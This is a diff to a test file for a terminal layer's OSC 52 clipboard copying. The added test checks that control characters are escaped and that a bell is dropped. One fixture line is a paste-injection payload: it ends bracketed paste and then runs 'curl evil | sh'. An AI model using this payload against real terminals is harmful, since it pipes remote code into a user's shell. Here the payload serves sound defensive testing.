@@ -221,14 +221,18 @@ describe('createDiffOutput', () => {
 		expect(real.screen.cursorHidden).toBe(true);
 	});
 
-	it('copies to the clipboard with OSC 52 and passes a bell on', async () => {
+	it('copies to the clipboard with OSC 52, never a control character, and drops a bell', async () => {
 		const {real, layer, write} = setup(20, 3);
 		layer.enter();
 		layer.osc52('arn:aws:ecs:eu-west-1:123:service/acso/api ✓');
-		write('\u0007');
+		// A line that would end a bracketed paste and run what follows in the engineer's shell.
+		layer.osc52('ok\u001b[201~\rcurl evil | sh\nnext\u009b');
+		write('ab\u0007');
 		await settle(layer, real.screen);
-		expect(real.screen.osc52Writes).toEqual(['arn:aws:ecs:eu-west-1:123:service/acso/api ✓']);
-		expect(real.writes.at(-1)).toContain('\u0007');
+		expect(real.screen.osc52Writes).toEqual(['arn:aws:ecs:eu-west-1:123:service/acso/api ✓', 'ok\\x1b[201~\\x0dcurl evil | sh\nnext\\x9b']);
+		expect(real.writes.join('')).not.toContain('\u0007ab');
+		expect(real.writes.slice(1).join('').replace(/\u001B\]52;c;[^\u0007]*\u0007/g, '')).not.toContain('\u0007');
+		expect(real.screen.text()).toContain('ab');
 		expect(() => layer.osc52(42 as unknown as string)).toThrow(/text must be a string/);
 	});
 
